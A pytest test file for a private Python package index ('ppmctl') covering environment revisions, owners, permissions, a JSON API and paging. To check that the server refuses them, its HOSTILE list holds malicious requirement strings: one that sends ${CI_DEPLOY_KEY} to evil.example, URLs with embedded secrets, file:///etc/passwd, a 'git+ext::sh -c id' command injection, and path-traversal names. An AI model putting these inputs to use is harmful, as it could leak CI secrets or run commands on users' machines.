"""Tests of environments on the server: plain clients, owners, revisions, deletion, and ten thousand of them."""

from __future__ import annotations

import hashlib
import json
import os
import re
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
import requests
from support import environments, tracing, wheels
from support.answers import Asked, Party, ask
from support.clients import Machine
from support.environments import revision
from support.evidence import remove_tree, until
from support.servers import Server, clean_environment, ppmctl
from support.tracing import counted

from ppmctl.distributions import distribution
from ppmctl.distributions.environment_revision import FILES, Revision
from ppmctl.distributions.environment_wheel import from_wheel, to_wheel
from ppmctl.index import project_folder
from ppmctl.index.layout import RECORD, Volume
from ppmctl.index.project_folder import Record
from ppmctl.index.store import Store

LOCK = 'lock-version = "1.0"\ncreated-by = "a test"\npackages = []\n'
FOR_EVER = "max-age=31536000, immutable, private"


@pytest.fixture(scope="module")
def people(index: Server) -> dict[str, tuple[str, str]]:
    """Return credentials of an owner (also a token), another user, one with a scope, a reader and an admin."""
    made = {"admin": index.auth}
    for name, options in (
        ("ann", ("--role", "publisher")),
        ("bob", ("--role", "publisher")),
        ("scoped", ("--role", "publisher", "--project", "ppm-env-data-*")),
        ("reader", ("--role", "reader")),
    ):
        secret = ppmctl("user", "add", name, *options, "--root", str(index.root)).stdout.strip()
        made[name] = (name, secret)
    credential = ppmctl(
        "token", "create", "ann+laptop", "--role", "publisher", "--root", str(index.root)
    ).stdout.strip()
    made["ann+laptop"] = ("ann+laptop", credential.rpartition(":")[2])
    return made


def audited(index: Server) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (index.root / "audit.jsonl").read_text().splitlines()]


def form(index: Server, path: str, **options: Any) -> requests.Response:
    return index.get(f"/env/{path}", **options)


def text(index: Server, path: str) -> str:
    answer = form(index, path)
    assert answer.status_code == 200, f"{path}: {answer.status_code} {answer.text}"
    return answer.text


def change(index: Server, method: str, path: str, who: tuple[str, str], **body: Any) -> requests.Response:
    return requests.request(method, f"{index.url}/api/packages/{path}", json=body or None, auth=who, timeout=60)


# plain clients


def test_pip_and_uv_install_an_environment_in_every_way(
    index: Server, new_machine: Callable[..., Machine], newest_pip: Path
) -> None:
    """Authenticated only by netrc, and without ppmctl on the machine."""
    environments.fill(index)
    versions = environments.installs(index, new_machine(index), newest_pip)
    assert versions == dict.fromkeys(versions, "1.0")
    assert len(versions) == 11
    nobody = new_machine()
    printed = nobody.run(
        "pip", "--no-input", "install", "-r", f"{index.url}/env/team/requirements.txt", expect=1
    ).output
    assert "401" in printed


def test_content_types_of_files(index: Server) -> None:
    for made in (revision("served", 1, "numpy", lock=LOCK), revision("served", 2, "numpy", "flask")):
        assert index.upload(made).status_code == 200
    for path in (*(f"served/1/{name}" for name in FILES), "served/requirements.txt", "served/"):
        answer = form(index, path)
        assert answer.status_code == 200, path
        kind = "application/json" if path.endswith((".json", "/")) else "text/plain; charset=utf-8"
        assert answer.headers["Content-Type"] == kind
        assert answer.headers["Cache-Control"] == (FOR_EVER if "/1/" in path else "no-cache")
        again = form(index, path, headers={"If-None-Match": answer.headers["ETag"]})
        assert again.status_code == 304
        assert form(index, path, auth=None).status_code == 401
        assert form(index, path, auth=("admin", "ppm_wrong")).status_code == 401
    assert form(index, "Served/1/env.json").headers["Location"] == "../../served/1/env.json"
    assert form(index, "served/pylock.toml").status_code == 404, "the latest is not locked"
    assert form(index, "served/3/env.json").status_code == 404
    assert form(index, "nowhere/env.json").status_code == 404


def test_an_environments_name_is_never_redirected(serve: Callable[..., Server]) -> None:
    """Anyone may register ppm-env-NAME at the public index; a user who mistypes a name must not get it."""
    server = serve()
    assert server.get("/simple/ppm-env-nowhere/").status_code == 404
    assert server.get("/simple/six/").status_code == 302


# revisions


def test_a_pinned_revision_never_changes(serve: Callable[..., Server]) -> None:
    """Whatever happens to other revisions or to it, and even if index/ is deleted."""
    index = serve()
    name, made = revision("pinned", 1, "numpy==1.0", lock=LOCK)
    assert index.upload((name, made)).status_code == 200
    before = {file: form(index, f"pinned/1/{file}") for file in FILES}
    assert index.upload(revision("pinned", 2, "numpy==2.0")).status_code == 200
    assert text(index, "pinned/requirements.txt").splitlines() == ["# ppm-env-pinned, revision 2", "numpy==2.0"]
    assert index.upload((name, to_wheel(other_list(made)))).status_code == 409
    for number in ("1", "2"):
        assert change(index, "PUT", f"ppm-env-pinned/{number}/yank", index.auth).status_code == 200
    remove_tree(index.root / "index")
    for file, answer in before.items():
        after = form(index, f"pinned/1/{file}")
        assert (after.status_code, after.content) == (200, answer.content)
        assert after.headers["ETag"] == answer.headers["ETag"]


def other_list(made: bytes) -> Revision:
    before = from_wheel(made)
    return Revision(name=before.name, number=before.number, requirements=("evil",), change=before.change)


def test_revisions_have_no_gap_and_one_upload_wins(index: Server, people: dict[str, tuple[str, str]]) -> None:
    first = index.upload(revision("counted", 2, "numpy"))
    assert (first.status_code, first.text) == (409, "Revision 2 of counted leaves a gap: the next is 1\n")
    for number in (1, 2):
        made = [revision("counted", number, f"numpy=={number}.{other}") for other in range(8)]
        with ThreadPoolExecutor(8) as pool:
            codes = sorted(answer.status_code for answer in pool.map(index.upload, made))
        assert codes == [200] + [409] * 7
    assert index.upload(revision("counted", 4, "numpy")).status_code == 409
    index_files = index.filenames("ppm-env-counted")
    assert index_files == {f"ppm_env_counted-{number}-py3-none-any.whl" for number in (1, 2)}
    # nor may a revision leave out what another user has changed
    for base in (None, 1):
        lost = index.upload(revision("counted", 3, "numpy", base=base))
        assert (lost.status_code, lost.text.count("\n")) == (409, 1)
        assert lost.text.startswith("Revision 3 of counted is no change of revision 2: ")
    # a used and removed number is not used again, and leaves no gap
    assert change(index, "DELETE", "ppm-env-counted/2", index.auth).status_code == 200
    assert index.upload(revision("counted", 2, "numpy")).status_code == 409
    made = revision("counted", 3, "numpy", base=1)
    assert [index.upload(made).status_code for _ in range(2)] == [200, 200], "an answer may get lost"
    assert text(index, "counted/requirements.txt").startswith("# ppm-env-counted, revision 3\n")
    assert change(index, "PUT", "ppm-env-counted/3/yank", index.auth).status_code == 200
    assert index.upload(revision("counted", 4, "numpy", base=1)).status_code == 200, (
        "of the latest that is not yanked"
    )


def test_invalid_revisions_are_refused(index: Server) -> None:
    """400, and nothing is left: neither a file nor a used name."""
    good = revision("odd", 1, "numpy")
    for made, why in (
        (wheels.wheel("ppm-env-odd", "1"), "has no ppm-env/env.json"),
        (wheels.wheel("ppm-env-odd", "1.0"), "has no ppm-env/env.json"),
        (wheels.sdist("ppm-env-odd", "1"), "has no sdists"),
        ((good[0], revision("odd", 1, "flask", change="x")[1][:-30]), "is not a readable archive"),
        ((revision("odd", 2)[0], good[1]), "that of another distribution"),
        ((good[0].replace("-1-", "-1-1-"), good[1]), "has the content of"),
        ((good[0].replace("ppm_env", "PPM_env"), good[1]), "has the content of"),
        (wheels.wheel("ppm-env-" + "x" * 61, "1"), "can't be the name of an environment"),
    ):
        answer = index.upload(made)
        assert (answer.status_code, answer.text.count("\n")) == (400, 1), made[0]
        assert why in answer.text, answer.text
    assert not (index.root / "packages" / "ppm-env-odd").exists()
    for name in ("../x", "..", "x" * 300, "%2e%2e", "x%2fy", "x%00", "x/../../..", "."):
        for path in (f"{name}/env.json", f"{name}/1/env.json", f"{name}/"):
            asked = Asked(path=f"/env/{path}")  # sent literally, without a client library's changes
            assert ask(Party(url=index.url, auth=index.auth), asked).status in (301, 404), path
    assert index.upload(good).status_code == 200


HOSTILE = (
    "x @ https://evil.example/${CI_DEPLOY_KEY}/x.whl",
    'numpy; platform_version == "${CI_DEPLOY_KEY}"',
    "x @ https://me:s3cret@host.example/x.whl",
    "x @ https://host.example/x.whl?token=s3cret",
    "x @ file:///etc/passwd",
    "x @ git+ext::sh%20-c%20id",
    'numpy; platform_version == "x --config-settings=y"',
    "x.whl",
    'numpy; platform_version == "\u202e"',
)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_requirement_that_clients_expand_is_refused(index: Server, text: str, tmp_path: Path) -> None:
    """From any client, and from an adopted folder; the reason repeats no secret."""
    made = environments.forged("hostile", 1, text)
    answer = index.upload(made)
    assert (answer.status_code, answer.text.count("\n")) == (400, 1), answer.text
    assert "s3cret" not in answer.text
    wheels.write(tmp_path / "old", made)
    done = ppmctl("index", "adopt", str(tmp_path / "old"), "--root", str(index.root), expect=1)
    assert done.stdout.startswith("left  ")
    assert "s3cret" not in done.stdout + done.stderr
    assert "s3cret" not in (index.root / "audit.jsonl").read_text()
    assert not (index.root / "packages" / "ppm-env-hostile").exists()
    assert form(index, "hostile/requirements.txt").status_code == 404


def test_the_drop_folder_refuses_the_same_requirements(index: Server) -> None:
    made = [environments.forged(f"dropped-{number}", 1, text) for number, text in enumerate(HOSTILE)]
    for file in made:
        wheels.write(index.root / "drop", file)
    reasons = [index.root / "drop" / f"{name}.rejected" for name, _content in made]
    until(lambda: all(reason.exists() for reason in reasons), "all files are rejected")
    assert not any("s3cret" in reason.read_text() for reason in reasons)
    assert not list((index.root / "packages").glob("ppm-env-dropped-*"))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("https://files.example/", "file:///srv/"),
        ("https://files.example/", "https://me:s3cret@files.example/"),
        ("https://files.example/", "https://files.example/${CI_DEPLOY_KEY}/"),
        ('url = "https://files.example/', 'path = "/etc/'),
    ],
)
def test_a_lock_that_is_not_the_same_everywhere_is_refused(index: Server, old: str, new: str) -> None:
    lock = (
        'lock-version = "1.0"\ncreated-by = "a test"\n[[packages]]\nname = "x"\nversion = "1.0"\n'
        '[[packages.wheels]]\nurl = "https://files.example/x-1.0-py3-none-any.whl"\nhashes = {sha256 = "ab"}\n'
    )
    answer = index.upload(environments.forged("locked-badly", 1, "x", lock=lock.replace(old, new)))
    assert answer.status_code == 400
    assert "s3cret" not in answer.text


def test_a_revision_that_an_older_ppm_accepted_is_yanked_and_replaced(index: Server, tmp_path: Path) -> None:
    """Nobody gets its list, and its environment can be changed again."""
    assert index.upload(revision("aged", 1, "numpy")).status_code == 200
    name, content = environments.forged("aged", 2, "x @ https://evil.example/${CI_DEPLOY_KEY}/x.whl")
    store = Store(Volume(root=index.root))
    with store.area.new_file() as received:
        received.write(content)
        received.finish()
        store.put(received, distribution.inspect(received.path, name), by="admin")
    store.area.close()
    assert form(index, "aged/2/requirements.txt").status_code == 404
    assert text(index, "aged/requirements.txt") == "# ppm-env-aged, revision 1\nnumpy\n"
    who = {"PPMCTL_USERNAME": index.user, "PPMCTL_TOKEN": index.secret, "PPMCTL_INDEX": index.url}
    environ = clean_environment(tmp_path / "home", **who)
    refused = ppmctl("env", "add", "aged", "flask", "--no-check", env=environ, expect=1)
    assert "replace ${NAME} by the value of an environment variable" in refused.stderr
    command = "ppmctl package yank ppm-env-aged 2"
    assert command in refused.stderr
    ppmctl(*command.split()[1:], env=environ)
    assert ppmctl("env", "add", "aged", "flask", "--no-check", env=environ).stdout == "aged@3\n"
    assert text(index, "aged/requirements.txt") == "# ppm-env-aged, revision 3\nflask\nnumpy\n"


# owners


def test_who_may_change_an_environment(index: Server, people: dict[str, tuple[str, str]]) -> None:
    """Its owner with any token, and admins; others if it is shared; scopes also apply. Each refusal is 403."""

    def may(who: str, name: str, number: int, **about: Any) -> bool:
        answer = index.upload(revision(name, number, "numpy", **about), auth=people[who])
        assert answer.status_code in (200, 403), answer.text
        assert answer.text.count("\n") <= 1
        return answer.status_code == 200

    assert not may("reader", "data-ml", 1)
    assert may("ann", "data-ml", 1)
    assert may("ann+laptop", "data-ml", 2)
    assert not may("bob", "data-ml", 3)
    assert not may("scoped", "data-ml", 3)
    assert may("admin", "data-ml", 3)
    assert may("ann", "data-ml", 4, shared=True)
    assert may("bob", "data-ml", 5, shared=True)
    assert may("scoped", "data-ml", 6, shared=True)
    assert not may("bob", "data-ml", 7), "whether it is shared is its owner's to say"
    assert may("ann+laptop", "data-ml", 7)
    assert not may("bob", "data-ml", 8, shared=True)
    assert not may("scoped", "web", 1), "that is not in its scope"
    assert may("scoped", "data-mine", 1)
    assert not may("ann", "data-mine", 2)
    refused = index.upload(revision("data-ml", 8), auth=people["bob"])
    assert refused.text == "The environment data-ml belongs to ann, and is not shared\n"
    last = audited(index)[-1]
    assert (last["by"], last["action"], last["what"]) == ("bob", "publish", "ppm_env_data_ml-8-py3-none-any.whl")
    assert last["result"] == refused.text.rstrip()


def test_who_may_delete_an_environment(index: Server, people: dict[str, tuple[str, str]]) -> None:
    """Yank, unyank and archive: its owner within the scope, anybody while it is shared, admins."""
    for name, options in (("data-own", {}), ("data-all", {"shared": True})):
        assert index.upload(revision(name, 1, "numpy", **options), auth=people["ann"]).status_code == 200
    requests_of = (
        ("PUT", "{}/1/yank", {"reason": "old"}),
        ("DELETE", "{}/1/yank", {}),
        ("PUT", "{}/status", {"status": "archived", "reason": "deleted"}),
        ("PUT", "{}/status", {"status": "active"}),
    )
    for name, allowed in (
        ("data-own", {"ann", "ann+laptop", "admin"}),
        ("data-all", {"ann", "ann+laptop", "admin", "bob", "scoped"}),
    ):
        for who in ("ann", "ann+laptop", "bob", "scoped", "reader", "admin"):
            codes = {
                change(index, method, path.format(f"ppm-env-{name}"), people[who], **body).status_code
                for method, path, body in requests_of
            }
            assert codes == ({200} if who in allowed else {403}), (name, who)
    for status in ("quarantined", "deprecated"):
        answer = change(index, "PUT", "ppm-env-data-own/status", people["ann"], status=status)
        assert answer.status_code == 403
        admin = change(index, "PUT", "ppm-env-data-own/status", index.auth, status=status)
        assert admin.status_code == 200
        answer = change(index, "PUT", "ppm-env-data-own/status", people["ann"], status="active")
        assert answer.status_code == 403, "what an admin decided"
        assert change(index, "PUT", "ppm-env-data-own/status", index.auth, status="active").status_code == 200
    assert index.upload(wheels.wheel("ordinary", "1.0"), auth=people["ann"]).status_code == 200
    assert change(index, "PUT", "ordinary/status", people["ann"], status="archived").status_code == 403
    assert change(index, "DELETE", "ppm-env-data-own/1", people["ann"]).status_code == 403


def test_an_environment_is_deleted_and_created_again(index: Server, people: dict[str, tuple[str, str]]) -> None:
    """It is no longer listed or the latest, pinned revisions stay, and the next number continues."""
    ann = people["ann"]
    for number in (1, 2):
        assert index.upload(revision("again", number, f"numpy=={number}"), auth=ann).status_code == 200
    assert "again" in listed(index)
    assert change(index, "PUT", "ppm-env-again/status", ann, status="archived", reason="deleted").status_code == 200
    assert "again" not in listed(index), "while its revisions are being yanked too"
    for number in (1, 2):
        assert change(index, "PUT", f"ppm-env-again/{number}/yank", ann, reason="deleted").status_code == 200
    assert form(index, "again/requirements.txt").status_code == 404
    assert text(index, "again/2/requirements.txt").endswith("numpy==2\n")
    assert index.upload(revision("again", 3, "numpy==3"), auth=ann).status_code == 403, "it is archived"
    assert change(index, "PUT", "ppm-env-again/status", people["bob"], status="active").status_code == 403
    assert change(index, "PUT", "ppm-env-again/status", ann, status="active").status_code == 200
    assert "again" not in listed(index)
    assert index.upload(revision("again", 1, "numpy==3"), auth=ann).status_code == 409
    assert index.upload(revision("again", 3, "numpy==3"), auth=ann).status_code == 200
    assert text(index, "again/requirements.txt").endswith("numpy==3\n")
    assert "again" in listed(index)
    log = form(index, "again/").json()
    assert [(one["revision"], one["by"]) for one in log["revisions"]] == [(1, "ann"), (2, "ann"), (3, "ann")]
    signed = re.compile(r"deleted \(ann, 20\d\d-\d\d-\d\dT\d\d:\d\d:\d\dZ\)")
    *deleted, latest = (one["yanked"] for one in log["revisions"])
    assert all(signed.fullmatch(reason) for reason in deleted), "who deleted it, and when"
    assert latest is False


def listed(index: Server) -> set[str]:
    return {entry["name"] for entry in form(index, "?limit=1000").json()["environments"]}


def test_dropped_and_adopted_environments_have_no_owner(
    index: Server, people: dict[str, tuple[str, str]], tmp_path: Path
) -> None:
    """Copied files are valid revisions or are not imported; only admins change them, until they are shared."""
    wheels.write(tmp_path / "old", revision("adopted", 1, "numpy"))
    wheels.write(tmp_path / "old", wheels.wheel("ppm-env-strange", "1.0"))
    done = ppmctl("index", "adopt", str(tmp_path / "old"), "--root", str(index.root), expect=1)
    assert "has no ppm-env/env.json" in done.stdout + done.stderr
    assert form(index, "adopted/").json()["owner"] is None
    assert index.upload(revision("adopted", 2, "numpy"), auth=people["ann"]).status_code == 403
    assert index.upload(revision("adopted", 2, "numpy", shared=True)).status_code == 200
    assert index.upload(revision("adopted", 3, "numpy", shared=True), auth=people["ann"]).status_code == 200
    assert ppmctl("index", "check", "--root", str(index.root))


# as JSON


def api(
    index: Server, method: str, path: str, who: tuple[str, str] | None, match: str = "", /, **body: Any
) -> requests.Response:
    headers = {"If-Match": match} if match else {}
    url = f"{index.url}/api/environments{path and '/' + path}"
    return requests.request(method, url, json=body or None, auth=who, headers=headers, timeout=60)


def test_an_environment_is_made_changed_and_deleted_as_json(
    index: Server, people: dict[str, tuple[str, str]]
) -> None:
    """The revisions are those that clients install, the log tells who made them, and a deleted one can come again."""
    ann, bob = people["ann"], people["bob"]
    wanted = ["numpy>=2", "flask ; python_version < '4'"]
    made = api(index, "POST", "", ann, name="JSON.made", requirements=wanted)
    assert (made.status_code, made.headers["Location"]) == (201, "/api/environments/json-made")
    assert made.json()["requirements"] == ['flask; python_version < "4"', "numpy>=2"]
    assert (made.json()["owner"], made.json()["revision"], made.headers["ETag"]) == ("ann", 1, '"1"')
    assert api(index, "POST", "", ann, name="json-made", requirements=[]).status_code == 409
    assert text(index, "json-made/requirements.txt").splitlines()[1:] == made.json()["requirements"]
    seen = api(index, "GET", "json-made", people["reader"])
    assert (seen.json(), seen.headers["ETag"]) == (made.json(), '"1"')
    wanted = ["numpy>=2", "rich"]
    changed = api(index, "PUT", "json-made", ann, seen.headers["ETag"], requirements=wanted, shared=True)
    assert (changed.status_code, changed.json()["revision"]) == (200, 2)
    assert changed.json()["change"] == 'add rich; remove flask; python_version < "4"'
    again = api(index, "PUT", "json-made", bob, '"2"', requirements=["rich", "numpy>=2"])
    assert (again.status_code, again.json()["revision"]) == (200, 2), "nothing has changed"
    own = api(index, "PUT", "json-made", bob, "*", requirements=["rich"], change="only rich")
    assert [own.json()[key] for key in ("revision", "by", "change", "shared")] == [3, "bob", "only rich", True]
    assert [line["by"] for line in form(index, "json-made/").json()["revisions"]] == ["ann", "ann", "bob"]
    gone = api(index, "DELETE", "json-made", ann, '"3"')
    assert (gone.status_code, gone.json()) == (200, {"name": "json-made", "deleted": [1, 2, 3]})
    assert api(index, "GET", "json-made", ann).status_code == 404
    assert api(index, "DELETE", "json-made", ann).status_code == 404
    assert "json-made" not in listed(index)
    assert api(index, "POST", "", ann, name="json-made", requirements=[]).json()["revision"] == 4
    actions = [(line["action"], line["by"]) for line in audited(index) if "json-made" in str(line).replace("_", "-")]
    assert actions.count(("publish", "ann")) >= 3
    assert {("publish", "bob"), ("status", "ann"), ("yank", "ann")} <= set(actions)
    assert ppmctl("index", "check", "--root", str(index.root))


def test_of_two_changes_of_the_same_revision_one_is_refused(
    index: Server, people: dict[str, tuple[str, str]]
) -> None:
    ann = people["ann"]
    assert api(index, "POST", "", ann, name="raced", requirements=[]).status_code == 201
    with ThreadPoolExecutor(8) as pool:
        lists = [[f"numpy=={number}"] for number in range(8)]
        answers = list(pool.map(lambda one: api(index, "PUT", "raced", ann, '"1"', requirements=one), lists))
    assert sorted(answer.status_code for answer in answers) == [200, *[412] * 7]
    (won,) = [answer.json() for answer in answers if answer.status_code == 200]
    assert api(index, "GET", "raced", ann).json() == won
    with ThreadPoolExecutor(4) as pool:
        answers = list(
            pool.map(lambda one: api(index, "POST", "", ann, name="raced-too", requirements=one), lists[:4])
        )
    assert sorted(answer.status_code for answer in answers) == [201, *[409] * 3]


def test_json_changes_have_the_rules_of_uploads(index: Server, people: dict[str, tuple[str, str]]) -> None:
    ann, bob, reader = people["ann"], people["bob"], people["reader"]
    assert api(index, "POST", "", ann, name="ruled", requirements=["numpy"]).status_code == 201
    for who, code in ((None, 401), (reader, 403), (people["scoped"], 403)):
        assert api(index, "POST", "", who, name="other", requirements=[]).status_code == code
        assert api(index, "PUT", "ruled", who, "*", requirements=[]).status_code == code
        assert api(index, "DELETE", "ruled", who).status_code == code
    for who, method in ((bob, "PUT"), (bob, "DELETE")):
        assert api(index, method, "ruled", who, "*", requirements=[]).status_code == 403, "it is not shared"
    assert api(index, "PUT", "ruled", ann, requirements=[]).status_code == 428
    for match in ('"2"', 'W/"1"', "1x"):
        assert api(index, "PUT", "ruled", ann, match, requirements=[]).status_code == 412
        assert api(index, "DELETE", "ruled", ann, match).status_code == 412
    for body in (
        *({"requirements": wrong} for wrong in (None, "numpy", [1], ["-e ."], ["${X}"], ["a @ file:///x"])),
        *({"requirements": [], key: 1} for key in ("change", "shared", "name")),
        {"requirements": [], "change": "two\nlines"},
        {"requirements": ["https://u:p@h.example/x.whl"]},
    ):
        assert api(index, "PUT", "ruled", ann, "*", **body).status_code == 400, body
    for name in ("", "-", "x" * 61, None):
        assert api(index, "POST", "", ann, name=name, requirements=[]).status_code == 400
    large = [f"p{number}" for number in range(12_000)]
    assert api(index, "POST", "", ann, name="large", requirements=large).status_code == 413
    url = f"{index.url}/api/environments/ruled"
    headers = {"If-Match": "*", "Content-Type": "text/plain"}
    sent = json.dumps({"requirements": []})
    assert requests.put(url, data=sent, headers=headers, auth=ann, timeout=60).status_code == 415
    headers = {"If-Match": "*", "Sec-Fetch-Site": "cross-site"}
    assert requests.put(url, json={"requirements": []}, headers=headers, auth=ann, timeout=60).status_code == 403
    assert api(index, "GET", "", ann).status_code == 405
    assert api(index, "GET", "nowhere", ann).status_code == 404
    assert api(index, "PUT", "nowhere", ann, "*", requirements=[]).status_code == 404
    assert api(index, "GET", "ruled", ann).json()["revision"] == 1
    assert change(index, "PUT", "ppm-env-ruled/status", index.auth, status="quarantined").status_code == 200
    assert api(index, "POST", "", ann, name="ruled", requirements=[]).status_code == 403


# ten thousand


def test_ten_thousand_environments_are_listed_in_pages(tmp_path: Path) -> None:
    """A page's cost depends on its length: no folder is walked, and only its environments are read."""
    traced = tracing.start(many(tmp_path / "many", 10_000), "--upstream", "none")
    index = traced.server
    os.utime(index.root / "packages", (0, 0))  # the last project was created long ago
    try:
        first = traced.session.get(f"{index.url}/env/?limit=20", timeout=60).json()
        assert [entry["name"] for entry in first["environments"]] == [f"e{number:05}" for number in range(20)]
        assert first["after"] == "e00019"
        last = traced.session.get(f"{index.url}/env/?limit=20&after=e09989", timeout=60).json()
        assert [entry["name"] for entry in last["environments"]] == [
            f"e{number:05}" for number in range(9990, 10_000)
        ]
        assert last["after"] is None
        assert last["environments"][0]["owner"] == "ann"
        with traced.request("index/env/e00019/log.json") as operations:
            traced.session.get(f"{index.url}/env/?limit=20", timeout=60)
        assert [str(operation) for operation in operations if operation.call == "getdents64"] == []
        assert counted(operations).total() < 60
        for wrong in ("0", "1001", "x", "-1"):
            assert traced.session.get(f"{index.url}/env/?limit={wrong}", timeout=60).status_code == 400
        assert requests.get(f"{index.url}/env/", timeout=60).status_code == 401
    finally:
        index.kill()


def many(root: Path, count: int) -> Path:
    """Make a volume of `count` environments of one revision: `e00000` and so on, without pages."""
    volume = Volume(root=root)
    volume.prepare()
    content = revision("e", 1, "numpy")[1]  # its content is not read when its pages are made
    record = Record(
        version="1",
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        upload_time=project_folder.now(),
        uploaded_by="ann",
        summary="Environment e, revision 1: made",
    ).to_json()
    source = root / "source"
    source.write_bytes(content)
    for number in range(count):
        where = volume.project(f"ppm-env-e{number:05}")
        where.mkdir()
        path = where / f"ppm_env_e{number:05}-1-py3-none-any.whl"
        os.link(source, path)
        (where / (path.name + RECORD)).write_bytes(record)
    source.unlink()
    boot = Path("/proc/sys/kernel/random/boot_id").read_text()
    volume.boot.parent.mkdir(parents=True, exist_ok=True)
    volume.boot.write_text(boot)  # otherwise all pages are made at the start
    return root
